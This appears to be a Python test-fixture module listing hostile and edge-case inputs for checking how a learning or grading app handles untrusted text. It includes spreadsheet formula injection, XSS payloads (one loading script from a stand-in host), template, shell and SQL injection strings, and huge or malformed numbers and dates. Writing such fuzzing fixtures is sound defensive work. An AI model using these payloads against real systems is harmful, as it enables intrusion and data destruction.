"""Texts and values that no learner of good will types."""

ACTING_TEXTS = (
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.invalid/\"&A1)", "+1+cmd|' /C calc'!A0",
    "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\uff1d1+1", "\uff0b1", "\uff20SUM(1)",
    "'=1+1", "\";=1+1", "a\",=1+1,\"", "\x00=1+1", "\x1f=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
    "DDE(\"cmd\")", "|calc", "%0A=1+1", "<script>alert('acted')</script>",
    "<SCRIPT SRC=//example.invalid/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='",
    "</p></article></main><script>x</script>", "</style><style>body{display:none}</style>",
    "</title><svg onload=alert(1)>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "<!--", "-->", "<![CDATA[", "<base href=//example.invalid>", "<iframe srcdoc='<script>x</script>'>",
    "<a href='javascript:alert(1)'>right</a>", "&lt;script&gt;", "&#60;script&#62;",
    "<meta http-equiv=refresh content=0>", "<form action=//example.invalid>", "\\u003cscript\\u003e",
    "+ADw-script+AD4-", "{{ 7*7 }}", "{{ config }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}", "${7*7}", "#{7*7}", "%(x)s", "{0.__class__}",
    "{learner}", "%s%n", "`id`", "$(id)", "; rm -rf x", "| id",
    "open('ran_by_answer', 'w')", "__import__('os').system('id')",
    "'; DROP TABLE grade;--", "\x1b[2J\x1b]0;x\x07", "\x9b2J", "\u202e1 J 084", "\u2067x", "\u200fx",
    "\u061c1", "\u0661\u0662\u0663 J", "\u0645\u0631\u062d\u0628\u0627", "e" + "\u0301" * 200, "\ud800",
    "\udfff1 J", "\ufffe", "\x85", "\u2028",
)  # fmt: skip
HUGE_TEXTS = (
    "1e400", "1e400 J", "-1e400 mm", "9" * 10_000, "9" * 10_000 + " J", "0." + "0" * 9_000 + "1 mm",
    "1e-400 mm", "NaN", "nan J", "Infinity", "-Infinity J", "inf mm", "\u221e J", "1e999999999999 J",
    "1e" + "9" * 5_000, "0x" + "f" * 400, "1" + ",000" * 3000, "1" + " 000" * 3000, "1_000_000", "1/0",
    "1" + "/1" * 2000, "(" * 5000, "1 " + "m*" * 4000 + "m", "1 " + "(" * 3000, "1 m^999999999",
    "1 " + "k" * 6000, "1 mm" + "\u00b2" * 2000, "1" + "e1" * 3000, "+" * 9000 + "1 J",
    "1" + " " * 60_000 + "J", " " * 60_000, "1." * 20_000, "-" * 30_000, "1" * 120_000, "\u0661" * 9000,
    "\u00b2" * 300,
)  # fmt: skip
HUGE_NUMBERS = (
    "1e400", "-1e400", "1e308", "9" * 400, "-" + "9" * 400, "9" * 4400, "9" * 10_000, "NaN", "Infinity",
    "-Infinity", "1e-400", "-0", "0.1", "1e5", "18446744073709551616", "9223372036854775808", "1E+2", "0e0",
    "1.0",
)  # fmt: skip
WRONG_TYPES = (None, True, False, 0, 1, -1, 0.5, 10**30, "", "x", [], [1], {}, {"a": 1}, [[]], "\x00", " ")
TIMES = (
    "", "x", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "9999-12-31T23:59:59.999999+00:00",
    "1970-01-01", "1969-12-31T23:59:59+00:00", "2038-01-19T03:14:08+00:00", "2026-02-30T00:00:00+00:00",
    "2026-12-10T24:00:00+00:00", "2026-12-10T12:00:60+00:00", "12/10/2026", "1e400", "-1",
    "20261210T120000Z", "2026-W50-4", "2026-12-10T12:00:00+99:00", "2026-12-10T12:00:00+23:59:59.999999",
    "\u0662\u0660\u0662\u0666-12-10", "now", "x" * 5000, "2026-12-10 12:00", "0000-00-00",
    "10000-01-01T00:00:00+00:00", "=NOW()", "<b>now</b>", "2026-12-10T12:00:00\x00", "0001-01-01",
    "9999-12-31", "NaT",
)  # fmt: skip
